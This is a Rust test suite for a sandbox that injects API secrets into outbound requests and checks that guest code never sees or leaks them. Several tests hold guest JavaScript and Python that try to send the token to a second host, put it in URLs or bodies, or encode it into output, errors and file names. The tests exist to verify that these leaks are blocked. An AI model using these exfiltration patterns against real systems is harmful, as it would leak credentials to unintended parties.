//! Attacks on secrets (`docs/attacks.md`, rows 76 to 80 and 82): what the guest holds, where the value goes, and what comes back.
#![allow(
    clippy::unwrap_used,
    dead_code,
    reason = "a test that cannot go on ends; each uses a part of what is shared"
)]

use crate::packages;
use crate::server;

use std::sync::{Arc, Mutex};

use crate::common::{jar, repr};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use belljar::{Ended, Grants, Outcome, Request, Secret};
use server::{Asked, Authority, Names, Server, answer, ok, rule};

const HOST: &str = "api.example.test";
const VALUE: &str = "sk-live/9f8e7d6c+5b4a==\"quoted\"&<tag>";

struct World {
    server: Server,
    other: Server,
    grants: Grants,
}

impl World {
    fn new(answer: impl Fn(&Asked) -> Vec<u8> + Send + Sync + 'static) -> Self {
        let authority = Authority::new();
        let server = Server::start(Some((&authority, HOST)), answer);
        let other = Server::start(Some((&authority, "other.example.test")), |asked| ok(&asked.head));
        let secret =
            Secret::new("API_TOKEN", &format!("{HOST}:{}", server.port), "Authorization", VALUE).unwrap();
        let grants =
            Names::new(&[HOST, "other.example.test"]).grants().tls_root(authority.pem.as_bytes()).unwrap();
        let grants = grants.net(rule(&format!("{HOST}:{}", server.port)));
        let grants = grants.net(rule(&format!("other.example.test:{}", other.port))).secret(secret);
        Self { server, other, grants }
    }

    fn run(&self, image: &str, code: &str) -> Outcome {
        let inputs = [("url", HOST, self.server.port), ("other", "other.example.test", self.other.port)];
        let request = inputs.into_iter().fold(Request::new(code), |request, (name, host, port)| {
            request.input(name, format!("\"https://{host}:{port}/\""))
        });
        jar(image).with_grants(self.grants.clone()).run_blocking(request).unwrap()
    }
}

/// No part of the outcome holds the value in any usual form.
#[track_caller]
fn keeps_the_secret(outcome: &Outcome) {
    let text = format!("{outcome:?} {}", serde_json::to_string(outcome).unwrap());
    let hex: String = VALUE.bytes().map(|byte| format!("{byte:02x}")).collect();
    for shape in
        [VALUE.to_owned(), STANDARD.encode(VALUE), URL_SAFE.encode(VALUE), hex, "9f8e7d6c+5b4a".to_owned()]
    {
        assert!(!text.contains(&shape), "{shape} is in {text}");
    }
}

const SEND: [(&str, &str); 2] = [
    (
        "python",
        "import os, urllib.request\nprint(urllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})).read().decode())",
    ),
    (
        "javascript",
        "console.log(await (await fetch(url, { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } })).text())",
    ),
];

/// Rows 76 and 77: the server gets the value; the program gets a placeholder, whatever the server does with the value.
#[test]
fn the_server_gets_the_value_and_nobody_sees_it() {
    let world = World::new(|asked| {
        let value = asked.header("authorization").unwrap().replace("Bearer ", "");
        let hex: String = value.bytes().map(|byte| format!("{byte:02X}")).collect();
        let spread: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
        let lines = [
            value.clone(),
            STANDARD.encode(&value),
            STANDARD.encode(format!("user:{value}")),
            URL_SAFE.encode(format!("x{value}")),
            hex,
            spread,
            serde_json::to_string(&value).unwrap(),
            value.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;"),
        ];
        let head = format!("x-echo: {}\r\n", value);
        answer("200 OK", &head, lines.join("\n"))
    });
    for (image, code) in SEND {
        let outcome = world.run(image, code);
        assert_eq!(outcome.ended, Ended::Completed, "{outcome:#?}");
        assert_eq!(outcome.stdout.to_string().matches("belljar_secret_").count(), 8, "{outcome:#?}");
        keeps_the_secret(&outcome);
        assert_eq!(
            world.server.asked().pop().unwrap().header("authorization").unwrap(),
            format!("Bearer {VALUE}")
        );
    }
    let head = "import os, urllib.request\nurllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': os.environ['API_TOKEN']})).headers['x-echo'] == os.environ['API_TOKEN']";
    assert_eq!(repr(&world.run("python", head)), "True");
}

/// Row 77: create, then read: a later answer holds the value although nothing was sent with it.
#[test]
fn a_stored_value_is_found_when_it_comes_back() {
    let kept = Arc::new(Mutex::new(String::new()));
    let world = World::new(move |asked| match asked.header("authorization") {
        Some(value) => {
            *kept.lock().unwrap() = value;
            ok("stored")
        }
        None => answer("500 Internal Server Error", "", format!("last token was {}", kept.lock().unwrap())),
    });
    let code = format!(
        "{}\ntry: urllib.request.urlopen(url)\nexcept Exception as error: raise RuntimeError(error.read().decode())",
        SEND[0].1
    );
    let outcome = world.run("python", &code);
    assert_eq!(outcome.ended, Ended::Raised);
    assert!(
        outcome.error.as_ref().unwrap().message.contains("last token was Bearer belljar_secret_"),
        "{outcome:#?}"
    );
    keeps_the_secret(&outcome);
}

/// Row 77: an answer in small pieces, and one that cannot be searched.
#[test]
fn pieces_and_packing_do_not_hide_it() {
    let authority = Authority::new();
    let server = Server::streaming(Some((&authority, HOST)), |asked, stream| {
        let value = asked.header("authorization").unwrap_or_default();
        if asked.target() == "/packed" {
            let _ = stream.write_all(&answer("200 OK", "content-encoding: gzip\r\n", &value));
            return;
        }
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n");
        for byte in value.bytes() {
            let _ = stream.write_all(&[b"1\r\n", &[byte][..], b"\r\n"].concat());
            let _ = stream.flush();
        }
        let _ = stream.write_all(b"0\r\n\r\n");
    });
    let secret =
        Secret::new("API_TOKEN", &format!("{HOST}:{}", server.port), "Authorization", VALUE).unwrap();
    let grants = Names::new(&[HOST]).grants().tls_root(authority.pem.as_bytes()).unwrap();
    let grants = grants.net(rule(&format!("{HOST}:{}", server.port))).secret(secret);
    for (path, said) in [("/", "Bearer belljar_secret_"), ("/packed", "cannot be searched for secrets")] {
        let code =
            format!("try:\n  {}\nexcept Exception as error: print(error)", SEND[0].1.replace('\n', "\n  "));
        let request = Request::new(code).input("url", format!("\"https://{HOST}:{}{path}\"", server.port));
        let outcome = jar("python").with_grants(grants.clone()).run_blocking(request).unwrap();
        assert!(outcome.stdout.to_string().contains(said), "{outcome:#?}");
        keeps_the_secret(&outcome);
    }
    assert!(
        server.asked().iter().all(|asked| asked.header("accept-encoding").as_deref() == Some("identity"))
    );
}

/// Row 76: an answer cannot be asked for in pieces that are too small to recognise.
#[test]
fn a_part_of_an_answer_is_not_asked_for() {
    let world = World::new(|_| ok("whole"));
    let code = SEND[0].1.replace("headers={", "headers={'Range': 'bytes=0-3', ");
    assert_eq!(world.run("python", &code).stdout, "whole\n");
    assert_eq!(world.server.asked()[0].header("range"), None);
}

/// Row 78: nowhere else, in no other way.
#[test]
fn the_value_goes_nowhere_else() {
    let world = World::new(|_| ok("reached"));
    let code = r"
const token = process.env.API_TOKEN;
const said = async (...rest) => fetch(...rest).then((a) => console.log('sent', a.status), (error) => console.log(error.message));
await said(other, { headers: { Authorization: `Bearer ${token}` } });
await said(`${url}?key=${token}`);
await said(`${url}${token}`);
await said(url, { method: 'POST', body: `key=${token}` });
await said(url, { headers: { 'X-Api-Key': token } });
await said(url.replace('https', 'http'), { headers: { Authorization: token } });
await said(other, { method: 'POST', body: token.slice(0, 20) });
";
    let outcome = world.run("javascript", code);
    let lines: Vec<String> = outcome.stdout.to_string().lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 7, "{outcome:#?}");
    for line in &lines[..5] {
        assert!(line.contains("it is sent only in the header authorization to api.example.test"), "{line}");
    }
    assert!(lines[5].contains("over https only"), "{lines:?}");
    assert_eq!(lines[6], "sent 200", "a part of a placeholder is worth nothing");
    for asked in world.server.asked().iter().chain(&world.other.asked()) {
        assert!(!asked.head.contains(VALUE) && !String::from_utf8_lossy(&asked.body).contains(VALUE));
    }
    assert!(world.server.asked().is_empty());
}

/// Row 68 and row 78: a redirect to another granted host does not take the secret along.
#[test]
fn a_redirect_does_not_take_it_along() {
    let place = Arc::new(Mutex::new(String::new()));
    let answered = Arc::clone(&place);
    let world =
        World::new(move |_| answer("302 Found", &format!("location: {}\r\n", answered.lock().unwrap()), ""));
    *place.lock().unwrap() = format!("https://other.example.test:{}/", world.other.port);
    for (image, code) in SEND {
        let outcome = world.run(image, code);
        keeps_the_secret(&outcome);
    }
    assert!(
        world.other.asked().iter().all(|asked| asked.header("authorization").is_none()),
        "{:?}",
        world.other.asked()
    );
}

/// Row 79: a host with a secret is not asked with an identity of the program's own.
#[test]
fn no_other_identity_is_sent_to_the_host() {
    let world = World::new(|_| ok("reached"));
    let code = r"
for (const headers of [{ Authorization: 'Bearer mine' }, { 'X-Api-Key': 'mine' }, { 'api-key': 'mine' }, { Cookie: 'session=mine' }]) {
  await fetch(url, { headers }).then((a) => console.log('sent'), (error) => console.log(error.message));
}
";
    let outcome = world.run("javascript", code);
    let lines: Vec<String> = outcome.stdout.to_string().lines().map(str::to_owned).collect();
    assert!(lines[..3].iter().all(|line| line.contains("says who asks")), "{lines:?}");
    assert_eq!(world.server.asked().len(), 1);
    assert_eq!(world.server.asked()[0].header("cookie"), None);
}

/// Row 80: placeholders have one length, whatever they stand for, and differ in every session.
#[test]
fn placeholders_say_nothing_and_are_worth_nothing_elsewhere() {
    let world = World::new(|asked| ok(asked.header("authorization").unwrap_or_default()));
    let placeholder = |grants: &Grants| {
        let outcome =
            jar("javascript").with_grants(grants.clone()).run_blocking("process.env.API_TOKEN").unwrap();
        repr(&outcome).trim_matches('\'').to_owned()
    };
    let (one, two) = (placeholder(&world.grants), placeholder(&world.grants));
    assert_ne!(one, two);
    let short =
        Grants::default().secret(Secret::new("API_TOKEN", HOST, "Authorization", "12345678").unwrap());
    assert_eq!(placeholder(&short).len(), one.len());
    let stolen = format!("await (await fetch(url, {{ headers: {{ 'X-Other': '{one}' }} }})).text()");
    let outcome = world.run("javascript", &stolen);
    assert_eq!(repr(&outcome), "''");
    assert_eq!(world.server.asked()[0].header("x-other"), Some(one));
}

/// Row 82: what code finds in its environment is what it was given.
#[test]
fn the_environment_holds_placeholders_and_nothing_of_ours() {
    let world = World::new(|_| ok(""));
    let code = "import os, sys\n[sorted(os.environ), os.getcwd(), sys.argv, len(os.environ['API_TOKEN'])]";
    let outcome = world.run("python", code);
    assert_eq!(repr(&outcome), "[['API_TOKEN'], '/work', ['main.py'], 47]");
}

/// Row 76: should the value ever get inside, nothing that comes out shows it.
#[test]
fn what_comes_out_is_searched_too() {
    let world = World::new(|_| ok(""));
    let inside = format!("{VALUE:?}");
    for code in [
        "print(value[:9], end=''); print(value[9:]); print(value.encode().hex())",
        "import base64\nprint(base64.b64encode(b'x' + value.encode()))\nvalue",
        "raise ValueError(value)",
        "{'key': [value]}",
        "from belljar import display\ndisplay(value)",
        "import sys\nsys.stderr.write(value); sys.exit(value)",
        "import os\nos.makedirs('/output', exist_ok=True)\nopen('/output/' + value.encode().hex(), 'w').write(value)",
    ] {
        let request = Request::new(code).input("value", &*inside);
        let outcome = jar("python").with_grants(world.grants.clone()).run_blocking(request).unwrap();
        keeps_the_secret(&outcome);
        assert!(format!("{outcome:?}").contains("belljar_secret_"), "{code}: {outcome:#?}");
    }
    let session = jar("python").with_grants(world.grants.clone()).session().unwrap();
    session.run_blocking(Request::new("open('/tmp/file', 'w').write(value)").input("value", inside)).unwrap();
    let content = String::from_utf8(session.read_file("/tmp/file").unwrap()).unwrap();
    assert!(content.starts_with("belljar_secret_"), "{content}");
}

/// The demonstration: one script with `requests`, a secret it never sees, and a server that says it back.
#[test]
fn requests_with_a_secret_that_it_never_sees() {
    let world =
        World::new(|asked| ok(format!("you are {}", asked.header("authorization").unwrap_or_default())));
    let mut grants = world.grants.clone();
    grants = packages::REQUESTS
        .iter()
        .fold(grants, |grants, name| grants.file(format!("/lib/{name}.whl"), packages::content(name)));
    let code = format!(
        "{}{}",
        packages::path(&packages::REQUESTS),
        r"
import os, requests
print(requests.get(url, headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']}).text)
print(requests.get(url, auth=('user', os.environ['API_TOKEN'])).status_code)
try: requests.get('https://elsewhere.example.test/')
except requests.ConnectionError as error: print(error)
"
    );
    let request = Request::new(code).input("url", format!("\"https://{HOST}:{}/\"", world.server.port));
    let outcome = jar("python").with_grants(grants).run_blocking(request).unwrap();
    assert_eq!(outcome.ended, Ended::Completed, "{outcome:#?}");
    let text = outcome.stdout.to_string();
    assert!(text.starts_with("you are Bearer belljar_secret_") && text.contains("\n200\n"), "{text}");
    assert!(
        text.contains(
            "elsewhere.example.test:443 is not granted; run with --allow-net elsewhere.example.test"
        ),
        "{text}"
    );
    keeps_the_secret(&outcome);
    let asked = world.server.asked();
    assert_eq!(asked[0].header("authorization").unwrap(), format!("Bearer {VALUE}"));
    assert_eq!(
        asked[1].header("authorization").unwrap(),
        format!("Basic {}", STANDARD.encode(format!("user:{VALUE}")))
    );
}
